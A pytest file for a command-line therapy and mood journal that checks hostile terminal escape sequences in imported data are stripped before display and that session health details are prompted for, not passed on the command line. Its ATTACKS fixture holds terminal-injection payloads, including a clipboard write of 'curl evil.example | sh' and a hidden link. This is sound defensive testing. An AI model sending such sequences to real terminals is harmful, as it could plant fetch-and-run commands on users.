"""The command line on a real pseudo-terminal: what reaches it, and what it asks for.

A hostile import (terminal titles, OSC 52 clipboard writes, OSC 8 links, C1 CSI, bidi overrides)
is listed, searched and planned on a pty; the bytes the terminal receives hold no control
character but the line ends. And health data asked for on a terminal never touches argv.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import pexpect
import pytest

from kapjournal.journal import Journal
from tests.conftest import FAST_KDF, PASSPHRASE

ATTACKS = [
    "\x1b]0;pwned\x07",  # retitle the terminal
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",  # write "curl evil.example | sh" to the clipboard
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",  # a hidden link
    "\x1b[2J\x1b[H",  # clear the screen
    "\x9b31m",  # C1 CSI
    "\x07\x08\x7f",  # bell, backspace, DEL
    "\u202eevil\u202c \u2066x\u2069",  # bidi override and isolate
    "\r\x0bover",  # carriage return, vertical tab
]
HOSTILE = "".join(ATTACKS)


def _env(jpath: Path, home: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("KAPJOURNAL_")}
    env |= {
        "KAPJOURNAL_JOURNAL": str(jpath),
        "KAPJOURNAL_PASSPHRASE": PASSPHRASE,
        "KAPJOURNAL_HOME": str(home),
        "TERM": "xterm-256color",
        "COLUMNS": "120",
    }
    return env


def _spawn(args: list[str], env: dict[str, str]) -> pexpect.spawn:
    return pexpect.spawn(
        sys.executable, ["-m", "kapjournal", *args], env=env, timeout=60, dimensions=(40, 160)
    )


def _output(args: list[str], env: dict[str, str]) -> bytes:
    child = _spawn(args, env)
    data = child.read()  # everything until the command exits
    child.close()
    assert child.exitstatus == 0, data
    return data


def assert_no_control_bytes(data: bytes) -> None:
    text = data.decode("utf-8")  # also proves nothing was cut inside a character
    allowed = {"\r", "\n"}
    bad = sorted({hex(ord(c)) for c in text if (ord(c) < 0x20 and c not in allowed)})
    assert not bad, bad
    assert not any(0x7F <= ord(c) < 0xA0 for c in text)
    assert not any(c in text for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


@pytest.fixture
def hostile_journal(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    jpath = tmp_path / "j" / "journal.kapj"
    Journal.create(jpath, PASSPHRASE, kdf=FAST_KDF)[0].lock()
    export = {
        "tags": {"@sea": 1},
        "entries": [
            {
                "title": f"Title {HOSTILE} end",
                "body": f"Body {HOSTILE}\nsecond line {HOSTILE}",
                "date": "2026-03-14",
                "time": "08:30",
                "tags": [f"@tag{HOSTILE}"],
            }
        ],
    }
    source = tmp_path / "export.json"
    source.write_text(json.dumps(export))
    env = _env(jpath, tmp_path / "home")
    assert _output(["import", "--format", "jrnl-json", str(source)], env)
    child = _spawn(["session", "add", "--route", "iv", "--date", "2026-03-15"], env)
    child.sendline(f"intention {HOSTILE}".encode())
    child.sendeof()
    child.read()
    child.close()
    return jpath, env


@pytest.mark.parametrize(
    "args",
    [["list"], ["search", "Title"], ["session", "list"], ["list", "--json"], ["plan"]],
    ids=["list", "search", "session list", "list --json", "plan"],
)
def test_a_hostile_import_writes_no_control_byte_to_the_terminal(
    hostile_journal: tuple[Path, dict[str, str]], args: list[str]
) -> None:
    _, env = hostile_journal
    data = _output(args, env)
    assert_no_control_bytes(data)
    if args[0] in ("list", "search"):
        assert b"Title" in data and b"Body" in data  # the words stay


def test_a_hostile_pack_writes_no_control_byte_to_the_terminal(tmp_path: Path) -> None:
    jpath = tmp_path / "j" / "journal.kapj"
    Journal.create(jpath, PASSPHRASE, kdf=FAST_KDF)[0].lock()
    packs = tmp_path / "packs"
    packs.mkdir()
    escaped = json.dumps(HOSTILE)  # a TOML basic string accepts JSON's escapes
    (packs / "bad.toml").write_text(f"[pack]\n{escaped} = 1\n", encoding="utf-8")
    env = _env(jpath, tmp_path / "home")
    assert_no_control_bytes(_output(["--prompts", str(packs), "prompts", "list"], env))
    assert_no_control_bytes(_output(["--prompts", str(packs), "plan"], env))


def test_session_details_are_asked_on_the_terminal_not_taken_from_argv(tmp_path: Path) -> None:
    jpath = tmp_path / "j" / "journal.kapj"
    Journal.create(jpath, PASSPHRASE, kdf=FAST_KDF)[0].lock()
    child = _spawn(["session", "add"], _env(jpath, tmp_path / "home"))
    for prompt, answer in (
        ("Route", "sublingual"),
        ("Dose", "300 mg"),
        ("Setting", "home, with a sitter"),
        ("Support", ""),
        ("Dissociation", "4"),
    ):
        child.expect(prompt)
        child.sendline(answer)
    child.expect("Write your intention")
    child.sendline("to meet my grief")
    child.sendeof()
    child.expect("Logged session 1")
    child.read()
    child.close()
    assert child.exitstatus == 0
    (session,) = Journal.unlock(jpath, PASSPHRASE).sessions()
    assert (session.route, session.dose, session.setting, session.support) == (
        "sublingual", "300 mg", "home, with a sitter", ""
    )  # fmt: skip
    assert session.dissociation == 4 and session.intention == "to meet my grief"


def test_mood_without_a_score_is_asked_on_the_terminal(tmp_path: Path) -> None:
    jpath = tmp_path / "j" / "journal.kapj"
    Journal.create(jpath, PASSPHRASE, kdf=FAST_KDF)[0].lock()
    child = _spawn(["mood"], _env(jpath, tmp_path / "home"))
    for prompt, answer in (("Mood", "11"),):
        child.expect(prompt)
        child.sendline(answer)
    child.expect("from 0 to 10")  # refused plainly, nothing saved
    child.read()
    child.close()
    assert child.exitstatus == 1
    child = _spawn(["mood"], _env(jpath, tmp_path / "home"))
    for prompt, answer in (("Mood", "6"), ("Anxiety", ""), ("Energy", "5")):
        child.expect(prompt)
        child.sendline(answer)
    child.expect("Checked in: mood 6")
    child.read()
    child.close()
    (checkin,) = Journal.unlock(jpath, PASSPHRASE).checkins()
    assert (checkin.mood, checkin.anxiety, checkin.energy) == (6, None, 5)
